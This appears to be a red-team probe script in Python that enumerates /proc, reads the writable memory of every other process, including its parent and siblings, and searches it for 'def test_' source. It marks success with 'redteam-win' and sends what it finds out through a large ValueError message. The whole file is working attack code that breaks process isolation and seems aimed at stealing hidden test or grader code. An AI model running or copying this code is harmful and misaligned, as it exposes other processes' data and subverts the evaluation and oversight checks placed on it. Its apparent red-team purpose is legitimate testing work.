"""Reads the memory of its parent, its siblings and all other processes through /proc.

class: read
"""

import os
import re


def shout(words):
    found = []
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and p != str(os.getpid())]:
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for line in list(maps)[:200]:
                    span, rights = line.split()[:2]
                    start, end = (int(part, 16) for part in span.split("-"))
                    if "rw" not in rights or end - start > 2**24:
                        continue
                    memory.seek(start)
                    block = memory.read(end - start)
                    found.append(f"redteam-win: read {len(block)} bytes of another process")
                    for match in re.finditer(rb"def test_[a-z]+_", block):
                        found.append(repr(block[match.start() : match.start() + 300]))
                    break
        except (OSError, ValueError, OverflowError):
            continue
    raise ValueError("\n".join(found)[:60000])
